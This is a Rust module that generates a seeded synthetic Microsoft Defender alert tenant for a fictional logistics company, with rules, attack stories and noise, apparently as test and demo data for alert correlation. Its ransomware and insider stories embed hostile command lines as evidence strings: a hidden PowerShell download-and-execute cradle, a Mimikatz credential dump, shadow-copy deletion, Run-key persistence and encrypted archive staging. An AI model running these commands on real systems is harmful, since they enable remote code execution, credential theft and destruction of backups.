//! Seeded, deterministic demo tenant: a Microsoft 365 Defender export in the Microsoft Graph
//! security alerts v2 wire format (`microsoft.graph.security.alert` with polymorphic `evidence`).
//!
//! The fictional company is Kestrel Ridge Logistics (`kestrelridge.example`, NetBIOS domain
//! `KESTREL`, AD DNS `corp.kestrelridge.example`): 80 users, 50 workstations and 11 servers.
//! Over 30 days from [`DemoConfig::start`] the tenant sees three attack stories plus noise:
//!
//! - `phishing-ato` (8 alerts, ~30 h): a phishing mail is delivered, clicked from the office, then
//!   removed by ZAP; the victim's account signs in from an attacker IP, sets an inbox rule and
//!   sends internal phish (MDO, Entra ID Protection, Defender for Cloud Apps, Defender XDR).
//! - `ransomware` (13 alerts, ~13 h, 4 devices): PowerShell and LSASS access on a workstation,
//!   overpass-the-hash with a stolen `adm-` account, PsExec to three servers, a Run key, backup
//!   deletion and LockBit. The admin account and the payload hash tie the devices together.
//! - `password-spray` (4 alerts, ~5 h): one attacker IP sprays 14 users, then one of them is
//!   used from the same IP (cloud-app sign-in, anomalous token, mass download).
//! - `noise-N` (one label per alert): unrelated detections spread over the 30 days.
//!
//! Invariants (tested below): the same config gives byte-identical output (ChaCha8 seeded RNG,
//! no clock, no hash-map order; object keys are written sorted); alert ids are unique; the
//! `story` label is not in the alert JSON. Defender's own `incidentId` mostly follows the
//! stories, but the ransomware backup server and the spray's later alerts got incidents of their
//! own, as happens in real tenants. Noise alerts draw devices, users and IPs so that no two of
//! them share one within 24 hours, and keep 7 days clear of a story's entities.
//!
//! High-prevalence entities that must not link alerts, each in roughly 15-30% of all alerts:
//! the domain controller `DC01` (Defender for Identity alerts), `NT AUTHORITY\SYSTEM`
//! (`S-1-5-18`, process evidence), the office NAT address `203.0.113.1` (sign-in, click and
//! cloud-app alerts) and the cloud app `Microsoft Exchange Online` (mail alerts). As in the real
//! API, `cloudApplicationEvidence.appId` is an Int64 (Defender for Cloud Apps id 20893), not the
//! Entra application GUID. Binaries such as `powershell.exe` carry the same hashes everywhere.
//! Every address is documentation space (192.0.2/24, 198.51.100/24, 203.0.113/24) or 10.x.

pub mod formats;
pub mod harbourline;

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::rngs::ChaCha8Rng;
use rand::{RngExt, SeedableRng};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

const DOMAIN: &str = "kestrelridge.example";
const NT_DOMAIN: &str = "KESTREL";
const AD_DNS: &str = "corp.kestrelridge.example";
const NAT_IP: &str = "203.0.113.1";
const HOME_CC: &str = "NL";
const EXO: (u64, &str) = (20893, "Microsoft Exchange Online");
const SPO: (u64, &str) = (20892, "Microsoft SharePoint Online");
const DROPBOX: (u64, &str) = (11627, "Dropbox");
const GRAPH_CONTEXT: &str = "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2";
const N_WORKSTATIONS: usize = 50;
const RUN_KEY: &str = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run";

#[rustfmt::skip]
mod tables {
    pub const ANALYSTS: [(&str, &str); 2] =
        [("iris.jansen.soc@kestrelridge.example", "Iris Jansen"), ("koen.peeters.soc@kestrelridge.example", "Koen Peeters")];
    pub const FIRST: [&str; 30] = ["Anna", "Bram", "Carla", "Daan", "Eva", "Femke", "Gijs", "Hanna", "Ilse", "Jeroen",
        "Karin", "Lars", "Maaike", "Niels", "Olga", "Pieter", "Quinten", "Ruben", "Sanne", "Thijs", "Ursula", "Vera",
        "Willem", "Yara", "Joost", "Lotte", "Mila", "Sem", "Tess", "Noor"];
    pub const LAST: [&str; 30] = ["Bakker", "Visser", "Smit", "Meijer", "de Boer", "Mulder", "de Groot", "Bos", "Vos",
        "Peters", "Hendriks", "van Leeuwen", "Dekker", "Brouwer", "de Wit", "Dijkstra", "Smits", "de Graaf", "van der Meer",
        "Kok", "Jacobs", "Vermeulen", "van den Berg", "Schouten", "Willems", "van Dijk", "Hoekstra", "Maas", "Verhoeven", "Koster"];
    pub const SERVERS: [&str; 11] =
        ["DC01", "DC02", "FS01", "APP01", "APP02", "SQL01", "BKP01", "AADC01", "PRINT01", "RDS01", "VSCAN01"];
    pub const COUNTRIES: [&str; 15] =
        ["US", "DE", "FR", "BR", "SG", "IN", "ZA", "PL", "RO", "VN", "TR", "GB", "ES", "MX", "ID"];
    pub const MAIL_DOMAINS: [&str; 6] = ["newsletter-hub.example", "fast-parcel.example", "invoice-cloud.example",
        "hr-benefits-portal.example", "webinar-events.example", "shared-files.example"];
    pub const SUBJECTS: [&str; 5] = ["Your parcel could not be delivered", "Invoice overdue reminder",
        "Webinar invitation", "Benefits enrolment closes Friday", "Shared document for review"];
    pub const COMMENTS: [&str; 3] = ["Confirmed with the user, expected activity.", "Known IT tooling, closing.",
        "Reviewed, no further action needed."];
    pub const BENIGN: [super::Tri; 3] = [super::Tri::Done("falsePositive", "notMalicious"),
        super::Tri::Done("informationalExpectedActivity", "lineOfBusinessApplication"),
        super::Tri::Done("informationalExpectedActivity", "securityTesting")];
    pub const VENDORS: [&str; 4] = ["TeamViewer", "AnyDesk", "RemotePC", "PDFForge"];
    /// Windows binaries: name, folder, size. Their hashes are the same on every device.
    pub const BINARIES: [(&str, &str, u64); 15] = [
        ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", 491_520),
        ("cmd.exe", r"C:\Windows\System32", 323_584), ("services.exe", r"C:\Windows\System32", 731_744),
        ("svchost.exe", r"C:\Windows\System32", 57_360), ("explorer.exe", r"C:\Windows", 5_501_792),
        ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", 4_077_480),
        ("schtasks.exe", r"C:\Windows\System32", 235_008), ("reg.exe", r"C:\Windows\System32", 77_824),
        ("vssadmin.exe", r"C:\Windows\System32", 139_264), ("PSEXESVC.exe", r"C:\Windows", 183_136),
        ("AgentExecutor.exe", r"C:\Program Files (x86)\Microsoft Intune Management Extension", 54_672),
        ("msiexec.exe", r"C:\Windows\System32", 67_072), ("BrowserCore.exe", r"C:\Windows\BrowserCore", 1_012_584),
        ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", 2_936_088),
        ("wmiprvse.exe", r"C:\Windows\System32\wbem", 530_432),
    ];
    /// Threat name, family, file name.
    pub const PUA: [(&str, &str, &str); 5] = [
        ("PUA:Win32/Presenoker", "Presenoker", "FreePDFConverter_setup.exe"),
        ("PUA:Win32/InstallCore", "InstallCore", "DriverBoosterSetup.exe"),
        ("PUA:Win32/Softcnapp", "Softcnapp", "SoftwareUpdaterPro.exe"),
        ("PUA:Win32/CandyOpen", "CandyOpen", "VideoDownloader_x64.exe"),
        ("PUA:Win32/uTorrent", "uTorrent", "uTorrent.exe"),
    ];
    pub const MALWARE: [(&str, &str, &str); 5] = [
        ("Trojan:Win32/Wacatac.B!ml", "Wacatac", "Payment_Advice.exe"),
        ("Trojan:Win32/Sabsik.FL.B!ml", "Sabsik", "setup_patch.exe"),
        ("Trojan:Script/Phonzy.B!ml", "Phonzy", "invoice_0923.js"),
        ("Trojan:JS/Kepavll!atmn", "Kepavll", "scan_document.html"),
        ("TrojanDownloader:O97M/Donoff", "Donoff", "Order_Confirmation.xlsm"),
    ];
}
use tables::*;

/// The product behind an alert.
#[derive(Clone, Copy)]
#[rustfmt::skip]
enum Src { Edr, Av, Mdo, Mdi, Mdca, Idp, Xdr }

impl Src {
    fn service(self) -> &'static str {
        match self {
            Src::Edr | Src::Av => "microsoftDefenderForEndpoint",
            Src::Mdo => "microsoftDefenderForOffice365",
            Src::Mdi => "microsoftDefenderForIdentity",
            Src::Mdca => "microsoftDefenderForCloudApps",
            Src::Idp => "azureAdIdentityProtection",
            Src::Xdr => "microsoft365Defender",
        }
    }
    fn detection(self) -> &'static str {
        match self {
            Src::Av => "antivirus",
            Src::Mdca => "cloudAppSecurity",
            other => other.service(),
        }
    }
    fn product(self) -> &'static str {
        match self {
            Src::Edr | Src::Av => "Microsoft Defender for Endpoint",
            Src::Mdo => "Microsoft Defender for Office 365",
            Src::Mdi => "Microsoft Defender for Identity",
            Src::Mdca => "Microsoft Defender for Cloud Apps",
            Src::Idp => "Microsoft Entra ID Protection",
            Src::Xdr => "Microsoft Defender XDR",
        }
    }
    #[rustfmt::skip]
    fn actions(self) -> &'static str {
        match self {
            Src::Edr | Src::Av => "1. Review the device timeline for activity before and after the alert.\n2. Examine the process tree and command lines involved.\n3. Isolate the device and collect an investigation package if the activity is not expected.\n4. Submit unknown files for deep analysis.",
            Src::Mdo => "Review the message and its recipients, look for other messages from the same campaign and confirm the remediation taken by the automated investigation.",
            Src::Mdi => "Check whether the source computer and account are expected to perform this activity. If not, reset the account password and investigate the source computer.",
            Src::Mdca | Src::Xdr => "Review the user's activity in the activity log. If it is not expected, suspend the user, revoke all sessions and reset the password.",
            Src::Idp => "Confirm with the user whether the sign-in was theirs. If not, reset the password, revoke refresh tokens and require MFA re-registration.",
        }
    }
    /// Range of seconds between the last activity and the alert's creation.
    fn delay(self) -> (u64, u64) {
        match self {
            Src::Av => (5, 120),
            Src::Edr => (60, 420),
            Src::Mdi => (120, 900),
            Src::Mdo => (300, 3600),
            Src::Xdr => (600, 2400),
            Src::Mdca => (600, 5400),
            Src::Idp => (300, 7200),
        }
    }
    /// Products with automated investigation; the others report `unsupportedAlertType`.
    fn automated(self) -> bool {
        matches!(self, Src::Edr | Src::Av | Src::Mdo)
    }
}

/// One detection rule. `{t}` in the title is replaced with the threat family.
struct Rule {
    title: &'static str,
    src: Src,
    category: &'static str,
    severity: &'static str,
    mitre: &'static [&'static str],
    description: &'static str,
}

macro_rules! rules {
    ($($name:ident = $title:literal, $src:ident, $cat:literal, $sev:literal, [$($m:literal),*], $desc:literal;)*) => {
        $(const $name: Rule = Rule { title: $title, src: Src::$src, category: $cat, severity: $sev, mitre: &[$($m),*], description: $desc };)*
    };
}

rules! {
    // Shared by stories and noise.
    R_ZAP_URL = "Email messages containing malicious URL removed after delivery", Mdo, "InitialAccess", "informational", ["T1566.002"], "Emails containing a malicious URL were delivered and later removed by zero-hour auto purge.";
    R_URL_CLICK = "A potentially malicious URL click was detected", Mdo, "InitialAccess", "high", ["T1566.002"], "A user clicked a URL in an email that was later determined to be malicious.";
    R_UNFAMILIAR = "Unfamiliar sign-in properties", Idp, "InitialAccess", "medium", ["T1078.004"], "The sign-in had properties not recently seen for this user: location, IP address, browser or device.";
    R_ATYPICAL = "Atypical travel", Idp, "InitialAccess", "medium", ["T1078.004"], "Two sign-ins from geographically distant locations within a time shorter than the travel time between them.";
    R_PS = "Suspicious PowerShell command line", Edr, "Execution", "medium", ["T1059.001"], "A suspicious PowerShell activity was observed on the machine. Attackers use PowerShell to download payloads and run them in memory.";
    R_MASS_DL = "Mass download by a single user", Mdca, "Exfiltration", "medium", ["T1530"], "A user performed an unusually large number of file downloads in a single session.";
    // Phishing and account takeover.
    R_INBOX_RULE = "Suspicious inbox manipulation rule", Mdca, "Persistence", "medium", ["T1564.008", "T1114.003"], "A suspicious inbox rule that moves or deletes messages was set on the user's mailbox after a risky sign-in.";
    R_SEND_PATTERN = "Suspicious email sending patterns detected", Mdo, "LateralMovement", "medium", ["T1534"], "The user sent an unusual volume of messages to internal recipients, consistent with internal phishing from a compromised account.";
    R_BEC = "BEC financial fraud", Xdr, "Exfiltration", "high", ["T1114.003", "T1534"], "Signals across identity, mail and cloud apps indicate a business email compromise aimed at financial fraud.";
    R_RESTRICTED = "User restricted from sending email", Mdo, "SuspiciousActivity", "high", ["T1534"], "The user exceeded outbound sending limits and was blocked from sending email.";
    // Ransomware.
    R_LSASS = "Suspicious access to LSASS service", Edr, "CredentialAccess", "high", ["T1003.001"], "A process accessed the memory of lsass.exe in a way consistent with credential dumping tools such as Mimikatz.";
    R_OPTH = "Suspected overpass-the-hash attack (Kerberos)", Mdi, "LateralMovement", "high", ["T1550.002", "T1550.003"], "A Kerberos ticket was requested with an NTLM hash from a computer where the account does not normally sign in.";
    R_PSEXEC = "PsExec launched a command on a remote device", Edr, "LateralMovement", "medium", ["T1021.002", "T1569.002"], "A service was created remotely with PsExec and used to run commands on this device.";
    R_ASEP = "Anomaly detected in ASEP registry", Edr, "Persistence", "medium", ["T1547.001"], "A process registered a suspicious command in an autostart registry location.";
    R_BACKUPS = "File backups were deleted", Edr, "Impact", "high", ["T1490"], "Volume shadow copies were deleted, a common step before ransomware encryption.";
    R_RANSOM = "Ransomware behavior detected in the file system", Edr, "Ransomware", "high", ["T1486"], "A process renamed and rewrote many files and dropped ransom notes, behavior typical of ransomware.";
    R_LOCKBIT = "'{t}' ransomware was detected", Av, "Ransomware", "high", ["T1486"], "Microsoft Defender Antivirus detected ransomware on the device.";
    R_LOCKBIT_PREV = "'{t}' ransomware was prevented", Av, "Ransomware", "high", ["T1486"], "Microsoft Defender Antivirus prevented ransomware from running on the device.";
    // Password spray.
    R_SPRAY = "Password spray", Idp, "CredentialAccess", "high", ["T1110.003"], "Many accounts were tried with a small number of common passwords from the same IP address.";
    R_SPRAY_IP = "Activity from a password-spray associated IP address", Mdca, "InitialAccess", "medium", ["T1110.003", "T1078.004"], "A user was active from an IP address seen in a password spray attack.";
    R_TOKEN = "Anomalous Token", Idp, "CredentialAccess", "medium", ["T1528", "T1550.001"], "A token was used with unusual characteristics, such as an unexpected lifetime or replay from an unfamiliar location.";
    // Business email compromise.
    R_FORWARD = "Suspicious email forwarding activity", Mdca, "Exfiltration", "medium", ["T1114.003"], "A user set up a forwarding rule that sends their mail to an external address, after a risky sign-in.";
    // Insider exfiltration.
    R_ARCHIVE = "Possible data staging: many files compressed into a password-protected archive", Edr, "Collection", "medium", ["T1560.001"], "A user compressed a large number of files from a file share into an encrypted archive.";
    R_UPLOAD = "Unusual file upload to a personal cloud storage app", Mdca, "Exfiltration", "high", ["T1567.002"], "A user uploaded an unusually large volume of data to a personal cloud storage app.";
    // Commodity malware.
    R_MAL_DETECTED = "'{t}' malware was detected", Av, "Malware", "medium", [], "Microsoft Defender Antivirus detected malware on the device; it ran before it was detected.";
    R_INJECTION = "Suspicious process injection observed", Edr, "DefenseEvasion", "medium", ["T1055"], "A process injected code into another process, a technique used to evade defenses and run in a trusted process.";
    R_C2 = "Suspicious connection to a command-and-control server", Edr, "CommandAndControl", "high", ["T1071.001"], "A process connected to an address associated with command-and-control infrastructure.";
    // Noise only.
    R_PUA = "'{t}' unwanted software was detected", Av, "UnwantedSoftware", "low", [], "Potentially unwanted software was detected on the device.";
    R_MALWARE = "'{t}' malware was prevented", Av, "Malware", "informational", [], "Microsoft Defender Antivirus prevented malware from running on the device.";
    R_SERVICE = "Suspicious service registration", Edr, "Persistence", "low", ["T1543.003"], "A new service was registered by an installer in an unusual way.";
    R_TASK = "Suspicious Task Scheduler activity", Edr, "Persistence", "low", ["T1053.005"], "A scheduled task was created to run a binary with SYSTEM privileges.";
    R_PRT = "Possible attempt to access Primary Refresh Token (PRT)", Edr, "CredentialAccess", "informational", ["T1528"], "A process requested the Primary Refresh Token through BrowserCore, which can be used to obtain tokens for the user.";
    R_DCSYNC = "Suspected DCSync attack (replication of directory services)", Mdi, "CredentialAccess", "medium", ["T1003.006"], "A replication request was sent to a domain controller from a computer that is not a domain controller.";
    R_ENUM = "Account enumeration reconnaissance", Mdi, "Discovery", "medium", ["T1087.002"], "Kerberos requests for many non-existent accounts were sent from the source computer.";
    R_DNS = "Network-mapping reconnaissance (DNS)", Mdi, "Discovery", "low", ["T1046"], "Suspicious DNS zone transfer requests were sent to a domain controller.";
    R_LDAP = "Security principal reconnaissance (LDAP)", Mdi, "Discovery", "medium", ["T1087.002", "T1069.002"], "Suspicious LDAP queries enumerating users and groups were sent to a domain controller.";
    R_BRUTE = "Suspected Brute Force attack (Kerberos, NTLM)", Mdi, "CredentialAccess", "medium", ["T1110.001"], "Many failed authentications for several accounts came from the same computer.";
    R_GROUP = "Suspicious additions to sensitive groups", Mdi, "Persistence", "medium", ["T1098"], "A user was added to a sensitive group by an account that does not usually make such changes.";
    R_ANON = "Anonymous IP address", Idp, "InitialAccess", "low", ["T1090.003"], "A sign-in came from an anonymous IP address, such as a Tor exit node or anonymizing VPN.";
    R_TRAVEL = "Impossible travel activity", Mdca, "InitialAccess", "medium", ["T1078.004"], "Activity from the same user in distant locations within a period shorter than the travel time between them.";
    R_COUNTRY = "Activity from infrequent country", Mdca, "InitialAccess", "low", ["T1078.004"], "Activity from a country not recently or never visited by any user in the organization.";
    R_ZAP_MAL = "Email messages containing malware removed after delivery", Mdo, "InitialAccess", "informational", ["T1566.001"], "Emails containing malware were delivered and later removed by zero-hour auto purge.";
    R_REPORTED = "Email reported by user as malware or phish", Mdo, "InitialAccess", "informational", ["T1566"], "A user reported an email as malware or phish.";
}

/// A device of a story; `Own` is the cast's own device (a noise alert's pick).
#[derive(Clone, Copy)]
#[rustfmt::skip]
enum D { Ws, Fs01, App02, Bkp01, Dc01, Own }

/// Whose account runs a process.
#[derive(Clone, Copy)]
#[rustfmt::skip]
enum W { User, Admin, System }

/// Account shape: MDE/MDI (`Full`), cloud alerts (no SID, UPN domain), process (`OnPrem`).
#[derive(Clone, Copy)]
#[rustfmt::skip]
enum Flavor { Full, Cloud, OnPrem }

/// One piece of evidence, resolved against the [`Cast`] of a story or noise alert. Strings may
/// hold `{url}`, `{vendor}` and the cast's files `{file}`, `{payload}`, `{tool}`, `{note}` (a
/// file where a file is expected, its full path inside a command line or registry value).
#[derive(Clone, Copy)]
enum E {
    Dev(D, &'static str),
    Acct(Flavor, &'static str),
    Admin,
    /// The cast's extra accounts (spray targets, other accounts of a brute force).
    Extra(Flavor, &'static str),
    Mailbox,
    Msg,
    Url,
    App((u64, &'static str)),
    Nat(&'static str),
    Ip(&'static str),
    /// File and its status: `detected`, `prevented` or `remediated`.
    File(&'static str, &'static str),
    /// Image, parent image, command line, account.
    Proc(&'static str, &'static str, &'static str, W),
    /// Registry key, and optionally value name and data.
    Reg(&'static str, Option<(&'static str, &'static str)>),
}

/// Triage at export time; `Done` carries classification and determination.
#[derive(Clone, Copy)]
#[rustfmt::skip]
enum Tri { New, Working, Done(&'static str, &'static str) }

/// A story step: rule, seconds after the story start, main device, triage, incident-group
/// suffix (another suffix = Defender opened a separate incident), evidence.
struct Step(&'static Rule, u64, D, Tri, &'static str, &'static [E]);

use {Flavor::Cloud, D::*, E::*};

#[rustfmt::skip]
const PHISHING: [Step; 8] = [
    Step(&R_ZAP_URL, 1500, Own, Tri::Done("truePositive", "phishing"), "", &[Msg, Mailbox, Url, Acct(Cloud, ""), App(EXO)]),
    Step(&R_URL_CLICK, 420, Own, Tri::Working, "", &[Acct(Cloud, "compromised"), Mailbox, Url, Nat("source"), Msg, App(EXO)]),
    Step(&R_UNFAMILIAR, 10_800, Own, Tri::Working, "", &[Acct(Cloud, "compromised"), Ip("attacker")]),
    Step(&R_ATYPICAL, 11_400, Own, Tri::Working, "", &[Acct(Cloud, "compromised"), Nat(""), Ip("attacker")]),
    Step(&R_INBOX_RULE, 14_400, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO), Ip("attacker")]),
    Step(&R_SEND_PATTERN, 93_600, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO), Ip("attacker")]),
    Step(&R_BEC, 97_200, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO), Ip("attacker")]),
    Step(&R_RESTRICTED, 100_800, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO)]),
];

#[rustfmt::skip]
const SPRAY: [Step; 4] = [
    Step(&R_SPRAY, 0, Own, Tri::New, "", &[Ip("attacker"), Extra(Cloud, "attacked")]),
    Step(&R_SPRAY_IP, 7200, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Ip("attacker"), App(EXO)]),
    Step(&R_TOKEN, 12_600, Own, Tri::New, "-b", &[Acct(Cloud, "compromised"), Ip("attacker")]),
    Step(&R_MASS_DL, 14_400, Own, Tri::New, "-b", &[Acct(Cloud, "compromised"), Ip("attacker"), App(SPO)]),
];

#[rustfmt::skip]
const RANSOMWARE: [Step; 13] = [
    Step(&R_PS, 0, Ws, Tri::Working, "", &[Dev(Ws, "compromised"), Acct(Flavor::Full, ""), Url, Ip("commandAndControl"),
        Proc("powershell.exe", "cmd.exe", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\"", W::User)]),
    Step(&R_LSASS, 1500, Ws, Tri::Working, "", &[Dev(Ws, "compromised"), File("{tool}", "detected"),
        Proc("{tool}", "powershell.exe", "{tool} \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", W::User)]),
    Step(&R_OPTH, 13_200, Ws, Tri::New, "", &[Dev(Ws, "source"), Dev(Dc01, "destination"), Admin]),
    Step(&R_PSEXEC, 30_600, Fs01, Tri::New, "", &[Dev(Fs01, "compromised"), Dev(Ws, "source"), Admin, File("PSEXESVC.exe", "detected"),
        Proc("PSEXESVC.exe", "services.exe", r"C:\Windows\PSEXESVC.exe", W::System)]),
    Step(&R_PSEXEC, 32_100, App02, Tri::New, "", &[Dev(App02, "compromised"), Dev(Ws, "source"), Admin, File("PSEXESVC.exe", "detected"),
        Proc("PSEXESVC.exe", "services.exe", r"C:\Windows\PSEXESVC.exe", W::System)]),
    Step(&R_ASEP, 33_000, Fs01, Tri::New, "", &[Dev(Fs01, "compromised"), Admin, Reg(RUN_KEY, None), Reg(RUN_KEY, Some(("WinUpd", "{payload}"))),
        File("{payload}", "detected"), Proc("reg.exe", "cmd.exe", r"reg.exe add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v WinUpd /t REG_SZ /d {payload} /f", W::Admin)]),
    Step(&R_PSEXEC, 42_000, Bkp01, Tri::New, "-b", &[Dev(Bkp01, "compromised"), Dev(Ws, "source"), Admin, File("PSEXESVC.exe", "detected"),
        Proc("PSEXESVC.exe", "services.exe", r"C:\Windows\PSEXESVC.exe", W::System)]),
    Step(&R_BACKUPS, 43_500, Bkp01, Tri::New, "-b", &[Dev(Bkp01, "compromised"), File("{payload}", "detected"),
        Proc("vssadmin.exe", "{payload}", "vssadmin.exe delete shadows /all /quiet", W::System)]),
    Step(&R_RANSOM, 44_400, Fs01, Tri::New, "", &[Dev(Fs01, "compromised"), Admin, File("{payload}", "detected"), File("{note}", "detected"),
        Proc("{payload}", "cmd.exe", "{payload} -pass 7f3c9e", W::System)]),
    Step(&R_RANSOM, 44_580, App02, Tri::New, "", &[Dev(App02, "compromised"), Admin, File("{payload}", "detected"), File("{note}", "detected"),
        Proc("{payload}", "cmd.exe", "{payload} -pass 7f3c9e", W::System)]),
    Step(&R_LOCKBIT, 44_760, Fs01, Tri::New, "", &[Dev(Fs01, "compromised"), File("{payload}", "remediated")]),
    Step(&R_LOCKBIT_PREV, 44_880, Bkp01, Tri::New, "-b", &[Dev(Bkp01, "compromised"), File("{payload}", "prevented")]),
    Step(&R_LOCKBIT, 45_060, App02, Tri::New, "", &[Dev(App02, "compromised"), File("{payload}", "remediated")]),
];

#[rustfmt::skip]
const BEC: [Step; 4] = [
    Step(&R_UNFAMILIAR, 0, Own, Tri::Working, "", &[Acct(Cloud, "compromised"), Ip("attacker")]),
    Step(&R_INBOX_RULE, 2_400, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO), Ip("attacker")]),
    Step(&R_FORWARD, 2_700, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO), Ip("attacker")]),
    Step(&R_BEC, 21_600, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Mailbox, App(EXO)]),
];

#[rustfmt::skip]
const INSIDER: [Step; 3] = [
    Step(&R_ARCHIVE, 0, Ws, Tri::New, "", &[Dev(Ws, "compromised"), Acct(Flavor::Full, ""),
        Proc("7z.exe", "explorer.exe", r"7z.exe a -mhe=on -p C:\Users\Public\q3.7z D:\Shares\Finance", W::User)]),
    Step(&R_MASS_DL, 3_600, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Nat(""), App(SPO)]),
    Step(&R_UPLOAD, 5_400, Own, Tri::New, "", &[Acct(Cloud, "compromised"), Nat(""), App(DROPBOX)]),
];

#[rustfmt::skip]
const COMMODITY: [Step; 3] = [
    Step(&R_MAL_DETECTED, 0, Ws, Tri::Done("truePositive", "malware"), "", &[Dev(Ws, "compromised"), Acct(Flavor::Full, ""), File("{payload}", "detected")]),
    Step(&R_INJECTION, 600, Ws, Tri::New, "", &[Dev(Ws, "compromised"), File("{payload}", "detected"),
        Proc("{payload}", "explorer.exe", "{payload}", W::User)]),
    Step(&R_C2, 900, Ws, Tri::New, "", &[Dev(Ws, "compromised"), Ip("commandAndControl"), Url,
        Proc("{payload}", "explorer.exe", "{payload}", W::User)]),
];

/// Noise kinds; [`NOISE`] gives each a weight, a rule and its evidence.
#[derive(Clone, Copy, PartialEq)]
#[rustfmt::skip]
enum Noise { Pua, Malware, Prt, System, SystemMalware, DcSync, Recon, Dns, Brute, Group, SignIn, Mail, MailMalware, MailReported, Click }

const TO_DC: &[E] = &[
    Dev(Own, "source"),
    Dev(Dc01, "destination"),
    Acct(Flavor::Full, ""),
];
const MAIL: &[E] = &[Acct(Cloud, ""), Mailbox, Msg, Url, App(EXO)];

#[rustfmt::skip]
const NOISE: [(Noise, u64, &Rule, &[E]); 24] = [
    (Noise::Pua, 10, &R_PUA, &[Dev(Own, ""), Acct(Flavor::Full, ""), File("{file}", "detected"), Proc("{file}", "explorer.exe", "\"{file}\"", W::User)]),
    (Noise::Malware, 6, &R_MALWARE, &[Dev(Own, ""), Acct(Flavor::Full, ""), File("{file}", "prevented"), Proc("{file}", "msedge.exe", "\"{file}\"", W::User)]),
    (Noise::Prt, 4, &R_PRT, &[Dev(Own, ""), Acct(Flavor::Full, ""),
        Proc("BrowserCore.exe", "chrome.exe", r#""C:\Windows\BrowserCore\BrowserCore.exe" chrome-extension://ppnbnpeolgkicgegkbkbjmhlideopiji/ --parent-window=0"#, W::User)]),
    // The same Intune remediation script on every device it runs on.
    (Noise::System, 9, &R_PS, &[Dev(Own, ""), Proc("powershell.exe", "AgentExecutor.exe",
        r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\6c1f0c4e-2b1a-4f35-9d8e-5a1e7b0c9f21_1.ps1""#, W::System)]),
    (Noise::System, 5, &R_SERVICE, &[Dev(Own, ""), Reg(r"SYSTEM\CurrentControlSet\Services\{vendor}Service", None),
        Proc("msiexec.exe", "services.exe", r"C:\Windows\system32\msiexec.exe /V", W::System)]),
    (Noise::System, 6, &R_TASK, &[Dev(Own, ""), Proc("schtasks.exe", "msiexec.exe",
        r#"schtasks.exe /create /tn "{vendor}Update" /tr "C:\Program Files\{vendor}\update.exe" /sc daily /ru SYSTEM"#, W::System)]),
    (Noise::SystemMalware, 6, &R_MALWARE, &[Dev(Own, ""), File("{file}", "prevented"), Proc("{tool}", "services.exe", "\"{tool}\" -service", W::System)]),
    (Noise::DcSync, 6, &R_DCSYNC, TO_DC),
    (Noise::Recon, 5, &R_ENUM, TO_DC),
    (Noise::Recon, 4, &R_LDAP, TO_DC),
    (Noise::Dns, 5, &R_DNS, &[Dev(Own, "source"), Dev(Dc01, "destination")]),
    (Noise::Brute, 3, &R_BRUTE, &[Dev(Own, "source"), Dev(Dc01, "destination"), Acct(Flavor::Full, "attacked"), Extra(Flavor::Full, "attacked")]),
    (Noise::Group, 3, &R_GROUP, &[Dev(Own, "source"), Dev(Dc01, "destination"), Acct(Flavor::Full, ""), Extra(Flavor::Full, "")]),
    (Noise::SignIn, 4, &R_UNFAMILIAR, &[Acct(Cloud, ""), Nat("")]),
    (Noise::SignIn, 3, &R_UNFAMILIAR, &[Acct(Cloud, ""), Ip("")]),
    (Noise::SignIn, 5, &R_ATYPICAL, &[Acct(Cloud, ""), Nat(""), Ip("")]),
    (Noise::SignIn, 3, &R_ANON, &[Acct(Cloud, ""), Ip("")]),
    (Noise::SignIn, 3, &R_TRAVEL, &[Acct(Cloud, ""), Nat(""), Ip(""), App(EXO)]),
    (Noise::SignIn, 2, &R_MASS_DL, &[Acct(Cloud, ""), Nat(""), App(SPO)]),
    (Noise::SignIn, 2, &R_COUNTRY, &[Acct(Cloud, ""), Ip(""), App(EXO)]),
    (Noise::Mail, 6, &R_ZAP_URL, MAIL),
    (Noise::MailMalware, 4, &R_ZAP_MAL, MAIL),
    (Noise::MailReported, 4, &R_REPORTED, MAIL),
    (Noise::Click, 8, &R_URL_CLICK, &[Acct(Cloud, ""), Mailbox, Msg, Url, App(EXO), Nat("source")]),
];

/// Settings of the generator.
#[derive(Debug, Clone, PartialEq)]
pub struct DemoConfig {
    pub seed: u64,
    /// Start of the 30-day window.
    pub start: DateTime<Utc>,
    pub n_noise_alerts: usize,
    /// Sites of the company (each with its own people, devices, stories and noise; one tenant,
    /// one office NAT, one Exchange Online): the tenant grows by about 215 alerts per site.
    pub sites: usize,
}

impl Default for DemoConfig {
    fn default() -> Self {
        let start = Utc
            .with_ymd_and_hms(2026, 9, 1, 0, 0, 0)
            .single()
            .expect("valid fixed date");
        DemoConfig {
            seed: 20260901,
            start,
            n_noise_alerts: 180,
            sites: 1,
        }
    }
}

/// One alert with its ground-truth story label (`phishing-ato`, `ransomware`, `password-spray`,
/// `noise-N`). The label is not part of the alert JSON.
#[derive(Debug, Clone, PartialEq)]
pub struct GeneratedAlert {
    pub story: String,
    pub alert: Value,
}

/// Generates the demo tenant, sorted by `createdDateTime` then `id`.
///
/// With several sites, each site after the first has its own seed, people, devices and address
/// space (attacker addresses in 2001:db8::/32) inside the same tenant and domain; its story
/// labels start with `siteNNN/`.
